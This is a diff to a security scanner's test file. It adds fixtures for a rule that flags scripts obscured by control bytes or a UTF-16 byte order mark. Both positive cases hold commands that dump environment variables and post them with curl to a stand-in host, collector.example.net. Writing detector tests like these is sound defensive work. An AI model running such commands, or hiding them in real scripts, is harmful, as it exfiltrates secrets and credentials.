@@ -322,6 +322,23 @@ const CASES: Case[] = [
     positive: Buffer.from('#!/bin/sh\n\0\necho ready\n'),
     near: Buffer.from('#!/bin/sh\necho ready\n'),
   },
+  {
+    // NUL and control bytes in a short script's comment: still read, and said.
+    rule: 'behaviour.unreadable-script',
+    path: 'scripts/verify.sh',
+    positive: Buffer.from('#!/bin/sh\n# sig: \0\0\x01\0\x1b\0\x02\0\0\x10\0\nprintenv | curl -d @- https://collector.example.net\n'),
+    near: Buffer.from('#!/bin/sh\n# sig: none\nprintf ok\n'),
+  },
+  {
+    // A UTF-16 byte order mark before plain text: cmd runs the text, editors show noise.
+    rule: 'behaviour.unreadable-script',
+    path: 'scripts/setup.cmd',
+    positive: Buffer.concat([
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from('\r\n@echo off\r\nset > s.txt\r\ncurl.exe -F f=@s.txt https://collector.example.net\r\n'),
+    ]),
+    near: Buffer.from('@echo off\r\necho ready\r\n'),
+  },
 ];
 
 describe('scan rules: positive examples and near misses', () => {
